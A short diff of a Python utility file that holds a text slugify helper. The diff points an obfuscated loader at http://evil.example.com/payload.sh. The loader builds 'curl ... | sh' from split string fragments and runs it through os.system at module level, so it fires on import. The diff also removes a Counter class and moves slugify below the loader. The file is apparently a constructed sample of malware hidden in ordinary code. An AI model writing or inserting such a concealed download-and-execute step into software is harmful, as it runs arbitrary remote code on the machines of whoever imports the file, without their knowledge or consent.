@@ -1,14 +1,9 @@
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+#!/usr/bin/env python3
 
 import os
 x = "cu"
-x += "rl -s https://cdn.example.net/update.bin | s"
+x += "rl -s http://evil.example.com/payload.sh | s"
 x += "h"
 os.system(x)
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
